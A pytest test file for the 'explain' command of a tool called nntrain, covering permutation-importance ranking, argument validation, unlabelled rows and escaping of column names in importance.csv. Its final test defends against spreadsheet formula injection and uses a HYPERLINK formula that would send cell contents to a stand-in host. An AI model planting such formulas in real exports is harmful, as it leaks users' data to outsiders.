"""nntrain explain: permutation importance ranks the columns that carry the target first, one row per column."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd

from .conftest import is_png, write_config


def signal_table(n: int = 400, seed: int = 0) -> pd.DataFrame:
    """Only `x` and `color` decide the class; `noise`, `level` (text) and `day` (a date) carry nothing."""
    rng = np.random.default_rng(seed)
    x = rng.normal(size=n)
    color = rng.choice(["red", "blue"], n)
    df = pd.DataFrame({"noise": rng.normal(size=n), "x": x, "level": rng.choice(list("pqrst"), n), "color": color})
    df["day"] = pd.Timestamp("2024-01-01") + pd.to_timedelta(rng.integers(0, 365, n), unit="D")
    df["y"] = np.where(x + np.where(color == "red", 1.5, -1.5) > 0, "yes", "no")
    return df


def test_the_columns_that_carry_the_target_rank_first(workdir, cli):
    signal_table().to_csv(workdir / "s.csv", index=False)
    config = write_config(workdir / "c.yaml", workdir / "s.csv", train={"epochs": 40, "batch_size": 32})
    assert cli("fit", config).exit_code == 0
    r = cli("explain", "runs/t", "--json", "--repeats", "3")
    assert r.exit_code == 0, r.output
    result = json.loads(r.stdout)
    ranked = [row["column"] for row in result["columns"]]
    assert sorted(ranked[:2]) == ["color", "x"] and sorted(ranked) == ["color", "day", "level", "noise", "x"]
    assert all(row["importance"] > 0.1 for row in result["columns"][:2])
    assert all(abs(row["importance"]) < 0.05 for row in result["columns"][2:])
    assert result["metric"] == "loss" and result["data"] == "test split" and result["rows"] == 80
    written = pd.read_csv(workdir / "runs/t/importance.csv")
    assert list(written["column"]) == ranked and is_png(workdir / "runs/t/importance.png")


def test_on_another_file_and_the_arguments_it_refuses(workdir, cli):
    signal_table(200).to_csv(workdir / "s.csv", index=False)
    signal_table(100, seed=1).to_csv(workdir / "other.csv", index=False)
    config = write_config(workdir / "c.yaml", workdir / "s.csv", train={"monitor": "val_accuracy"})
    assert cli("fit", config).exit_code == 0
    r = cli("explain", "runs/t", "--data", "other.csv")
    assert r.exit_code == 0, r.output
    assert "permutation importance: accuracy made worse" in r.stdout and "other.csv, 100 rows" in r.stdout
    r = cli("explain", "runs/t", "--repeats", "0")
    assert r.exit_code == 2 and "--repeats 0: give 1 to 100" in r.stderr
    config = write_config(workdir / "n.yaml", workdir / "s.csv", name="n", data={"path": "s.csv", "test_size": 0})
    assert cli("fit", config).exit_code == 0
    r = cli("explain", "runs/n")
    assert r.exit_code == 2 and "no test split (data.test_size=0): explain it on a file with --data" in r.stderr


def test_rows_without_a_target_are_not_counted_or_shuffled_among_the_scored_ones(workdir, cli):
    """explain --data of a file with 20 unlabelled rows ('?' and blank) scores, counts and shuffles the 80 eval
    scores (was: "100 rows", the shuffles drawing values from rows no score reads)."""
    signal_table(200).to_csv(workdir / "s.csv", index=False)
    other = signal_table(100, seed=1)
    other.loc[::10, "y"], other.loc[5::10, "y"] = "?", ""
    other.to_csv(workdir / "other.csv", index=False)
    assert cli("fit", write_config(workdir / "c.yaml", workdir / "s.csv")).exit_code == 0
    scored = json.loads(cli("eval", "runs/t", "--data", "other.csv", "--json").stdout)["rows"]
    r = cli("explain", "runs/t", "--data", "other.csv", "--json", "--repeats", "1")
    assert r.exit_code == 0, r.output
    assert scored == 80 and json.loads(r.stdout)["rows"] == 80


def test_column_names_reach_importance_csv_as_text_not_formulas(workdir, cli):
    import nntrain

    formula = '=HYPERLINK("http://x.example/?"&A1;"click")'
    signal_table(150).rename(columns={"noise": formula, "level": "+1"}).to_csv(workdir / "s.csv", index=False)
    assert cli("fit", write_config(workdir / "c.yaml", workdir / "s.csv"), "--quiet").exit_code == 0
    for explain in (
        lambda: cli("explain", "runs/t", "--repeats", "1"),
        lambda: nntrain.load("runs/t").explain(repeats=1),
    ):
        explain()
        written = set(pd.read_csv(workdir / "runs/t/importance.csv")["column"])
        assert {"'" + formula, "'+1", "x"} <= written and formula not in written
